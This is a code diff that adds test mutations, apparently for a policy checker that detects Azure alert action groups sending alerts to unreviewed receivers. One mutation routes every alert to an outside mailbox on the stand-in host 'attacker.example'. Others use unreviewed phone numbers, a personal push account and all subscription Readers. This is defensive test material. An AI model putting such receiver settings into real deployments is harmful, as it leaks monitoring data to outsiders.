@@ -399,6 +399,39 @@ export const MUTATIONS: Mutation[] = [
     control: "MON-1",
   },
 
+  // Action group receivers that are people: every alert's contents to an address, number or role
+  // nobody reviewed (MON-1)
+  ...(
+    [
+      [
+        "e-mails every alert to an outside mailbox too",
+        { "push:emailReceivers": { name: "copy", emailAddress: "alerts-copy@attacker.example" } },
+      ],
+      [
+        "sends every alert by SMS to an unreviewed number",
+        { smsReceivers: [{ name: "sms", countryCode: "1", phoneNumber: "5550100" }] },
+      ],
+      [
+        "calls an unreviewed number for every alert",
+        { voiceReceivers: [{ name: "call", countryCode: "44", phoneNumber: "2071234567" }] },
+      ],
+      [
+        "pushes every alert to a personal Azure app account",
+        { azureAppPushReceivers: [{ name: "push", emailAddress: "someone@outlook.com" }] },
+      ],
+      [
+        "e-mails everyone with Reader on the subscription",
+        { armRoleReceivers: [{ name: "readers", roleId: "acdd72a7-3385-48ef-bd42-f606fba81ae7" }] },
+      ],
+    ] as const
+  ).map(([what, set]): Mutation => ({
+    id: `action group ${what}`,
+    type: T.actionGroup,
+    set,
+    policy: "alert-routes-in-stack",
+    control: "MON-1",
+  })),
+
   // Subnets and peering (NET-1, ENV-1)
   {
     id: "apps subnet uses an NSG outside the stack",
@@ -881,6 +914,11 @@ export const MUTATIONS: Mutation[] = [
 ];
 
 export const SECURE_VARIATIONS: Variation[] = [
+  {
+    id: "action group also e-mails a second on-call mailbox of the reviewed domain",
+    type: T.actionGroup,
+    set: { "push:emailReceivers": { name: "backup-oncall", emailAddress: "backup-oncall@Example.com" } },
+  },
   {
     id: "PostgreSQL allowlists pgvector and pgcrypto (no network reach)",
     add: {
